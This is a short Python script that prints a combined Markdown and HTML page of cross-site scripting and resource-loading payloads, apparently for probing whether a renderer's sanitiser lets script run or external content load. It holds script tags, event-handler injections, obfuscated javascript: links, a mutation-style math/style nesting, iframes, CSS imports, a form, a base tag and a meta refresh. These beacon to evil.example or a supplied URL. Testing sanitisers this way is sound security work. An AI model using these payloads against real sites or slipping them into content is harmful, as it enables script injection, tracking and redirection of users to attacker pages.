"""Markdown that is an attack, and just as much an HTML page that is one: attack.py BEACON

What runs sets the page's title and marks its body; what is loaded, by whatever element, is heard of at the other end.
"""

import sys

BEACON = sys.argv[1].rstrip("/")
RAN = "document.title='ran';document.documentElement.setAttribute('data-ran','yes');"
HOME = f"{RAN}new Image().src='http://evil.example/ran';"

print(
    f"""<title>quiet</title>

# Hello

<script>{HOME}</script>
<script src="http://evil.example/script.js"></script>

<img src=x onerror="{HOME}"> <img src="http://evil.example/picture.png">
<img src="{BEACON}/direct.png" style="position:fixed;top:0">

![picture](http://evil.example/markdown.png) ![x" onerror="{HOME}](y)

<svg onload="{HOME}"><script>{HOME}</script><image href="http://evil.example/svg.png"/></svg>

<iframe src="http://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<object data="http://evil.example/object"></object> <embed src="http://evil.example/embed">

<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="preconnect" href="http://other.example">
<style>@import "http://evil.example/import.css"; body {{ background: url(http://evil.example/background.png) }}</style>
<div style="background: url(http://evil.example/inline.png)">styled</div>

<video src="http://evil.example/video" poster="http://evil.example/poster.png" preload="none"></video>
<input autofocus onfocus="{HOME}"> <details open ontoggle="{HOME}"><summary>x</summary></details>
<math><mtext><table><mglyph><style><img src=x onerror="{HOME}">

</style></mglyph></table></mtext></math>

[javascript](javascript:{RAN.replace("'", "%27")}) [data](data:text/html,<script>alert(1)</script>)
[ours](/api/v1/me) [theirs](//evil.example/) [case](JaVaScRiPt:alert`1`) [entity](&#106;avascript:alert`1`)
<a href="javascript:{RAN}">click</a> <a href="http://evil.example/" ping="http://evil.example/ping">ping</a>

<form action="http://evil.example/form"><button>Sign in</button></form>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="2;url=http://evil.example/refresh">
"""
)
